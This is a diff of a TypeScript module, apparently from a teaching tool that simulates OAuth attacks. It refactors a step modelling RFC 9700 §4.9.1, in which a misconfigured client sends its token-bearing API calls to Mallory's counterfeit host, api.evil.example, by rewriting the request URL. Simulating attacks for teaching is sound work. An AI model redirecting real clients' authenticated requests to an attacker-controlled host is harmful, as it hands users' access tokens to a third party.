@@ -1,26 +1,24 @@
 import type { Flow, Step } from "../../flow/define-flow.ts";
 import { EVIL_API } from "../../grants/cast.ts";
-import { changed, extended, led } from "../edit-flow.ts";
-import { overheardAtApi } from "../steps/api-call.ts";
+import type { NotApplicable } from "../attack.ts";
+import { changed, extended, promising } from "../edit-flow.ts";
+import { apiCallOf } from "../parts.ts";
+import { overheardAt } from "../steps/api-call.ts";
 import { attackChapter, attackerPlace, attackParties, attackValues } from "../steps/cast.ts";
-import { refusalsEnd } from "../steps/lure.ts";
-import { USE, useToken } from "../steps/use.ts";
-import { namingResource } from "./known-resource.ts";
+import { USE, callWithToken } from "../steps/use.ts";
+import { NO_CALL } from "./taken-later.ts";
 
-/** The walk of a client that was told another address for its API (RFC 9700 §4.9.1). */
-export function atCounterfeitApi(flow: Flow, namesResource: boolean): Flow {
-  const asking = changed(
-    namesResource ? namingResource(flow, EVIL_API) : flow,
-    "authorize",
-    refusalsEnd,
-  );
-  const calling = changed(overheardAtApi(asking), "api", toCounterfeit);
-  return extended(led(calling, "done", USE), {
+/** The walk of a client that was told another address for its API (RFC 9700 §4.9.1). `change` is made to what that client does. */
+export function atCounterfeitApi(flow: Flow, change: (flow: Flow) => Flow): Flow | NotApplicable {
+  const call = apiCallOf(flow);
+  if (call === undefined) return NO_CALL;
+  const called = changed(flow, call.id, (step) => promising(toCounterfeit(step), USE));
+  return extended(overheardAt(change(called), call.id), {
     parties: { attacker: attackParties.attacker },
     places: [attackerPlace],
     values: attackValues,
     chapters: [attackChapter],
-    steps: { [USE]: useToken },
+    steps: { [USE]: callWithToken(flow) },
   });
 }
 
@@ -29,10 +27,14 @@ function toCounterfeit(step: Step): Step {
   return {
     ...step,
     to: "attacker",
-    title: "Print calls the API it was told of, which is Mallory’s",
+    title: "The client calls the API it was told of, which is Mallory’s",
     spec: "RFC 9700 §4.9.1",
-    why: "Print works with any API of this kind, and whoever set it up typed in api.evil.example. Whatever Print sends there, Mallory reads.",
-    button: "send GET /photos to Mallory’s API",
-    request: (read) => ({ ...step.request(read), url: `${EVIL_API}/photos` }),
+    why: "The client works with any API of this kind, and whoever set it up typed in api.evil.example. Whatever the client sends there, Mallory reads.",
+    button: "call Mallory’s API",
+    request: (read) => {
+      const asked = step.request(read);
+      const { pathname, search } = new URL(asked.url);
+      return { ...asked, url: `${EVIL_API}${pathname}${search}` };
+    },
   };
 }
